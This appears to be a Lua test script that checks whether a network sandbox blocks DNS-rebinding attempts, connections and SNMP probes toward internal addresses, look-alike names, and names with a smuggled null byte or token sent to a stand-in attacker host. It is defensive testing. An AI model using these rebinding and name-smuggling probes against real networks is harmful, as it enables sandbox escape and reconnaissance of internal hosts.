-- tries: to make granted names lead to this machine and its neighbours, and to ask for names that were not granted
-- grants: net evil.example; net *.sub.evil.example
-- says: not allowed|not known|connection refused|no such name
local socket, dgram, snmp = require "socket", require "dgram", require "snmp"
assert(socket.dns.toip("evil.example") == "192.0.2.1") -- public the first time
assert(socket.connect("192.0.2.1", 80))
for _ = 1, 3 do
  try("rebinding", socket.connect, "evil.example", A.tcp)
  try("rebinding, udp", function() return socket.udp4():sendto("breach", "evil.example", A.udp) end)
end
for _, name in ipairs{"lan", "lan6", "mapped", "any", "any6", "linklocal", "localhost", "multicast", "both", "nat64"} do
  local host = name .. ".sub.evil.example"
  try(name, socket.connect, host, A.tcp)
  try(name .. ", snmp", function() return snmp.open{host = host, port = A.udp, timeout = 0.1, retries = 0}:get("sysName.0") end)
  for _, a in ipairs(socket.dns.getaddrinfo(host) or {}) do
    if a.addr ~= "192.0.2.1" then try(name .. " at " .. a.addr, socket.connect, a.addr, A.tcp) end
  end
end
for _, name in ipairs{"other.example", "evilexample", "notevil.example", "sub.evil.example", "evil.example.com", "token.attacker.example", "evil.example\0.attacker.example"} do
  try("looking up " .. name, socket.dns.toip, name)
  try("getaddrinfo " .. name, socket.getaddrinfo, name, "80")
  try("connect " .. name, socket.connect, name, A.tcp)
end
assert(socket.dns.toip "token.localhost") -- and no name server hears of it
try("looking back", socket.dns.tohostname, "10.0.0.2")
try("looking back to this machine", socket.dns.tohostname, "127.116.111.107")
